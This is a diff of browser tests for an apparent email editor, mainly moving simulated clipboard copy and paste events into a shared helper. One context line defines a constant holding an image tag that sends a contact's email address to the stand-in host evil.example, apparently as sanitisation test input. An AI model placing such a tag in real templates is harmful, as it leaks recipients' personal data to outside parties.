@@ -9,6 +9,13 @@ const PNG = Buffer.from(
   'base64',
 );
 const EVIL = '<img src="https://evil.example/?{{ contact.email }}">';
+/** The events of a clipboard. That of the machine is shared by its programs, and not every headless browser has one. */
+const CLIPBOARD = `
+  const clipboardData = new DataTransfer();
+  const use = (type) =>
+    document.activeElement.dispatchEvent(
+      new ClipboardEvent(type, { clipboardData, bubbles: true, cancelable: true }),
+    );`;
 const TABLE = '<table><tr><td>Kept</td></tr></table>';
 const GREETING = '<p>Hello {{ contact.first_name | default: "there" }} &amp; <b>all</b></p>';
 const design = {
@@ -172,10 +179,9 @@ describe('the text of a letter', () => {
     await clickAtEnd();
     await page.keyboard.press('Control+a');
     await page.evaluate(`{
-      const clipboardData = new DataTransfer();
+      ${CLIPBOARD}
       clipboardData.setData('text/html', ${JSON.stringify(html)});
-      const paste = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
-      document.activeElement.dispatchEvent(paste);
+      use('paste');
     }`);
     await text().getByText('Pasted').waitFor();
     const { sections } = await publish();
@@ -187,9 +193,8 @@ describe('the text of a letter', () => {
   it('is copied within the editor with its links, and a value is found by its words', async () => {
     await clickAtEnd();
     await page.keyboard.press('Control+a');
-    await page.keyboard.press('Control+c');
-    await page.keyboard.press('ArrowRight');
-    await page.keyboard.press('Control+v');
+    // The first one replaces what is selected, and leaves the caret behind it.
+    await page.evaluate(`{ ${CLIPBOARD} use('copy'); use('paste'); use('paste'); }`);
     await eventually(async () => expect(await text().getByText('link', { exact: true }).count()).toBe(2));
     await button('Value').click();
     await page.keyboard.type('first na');
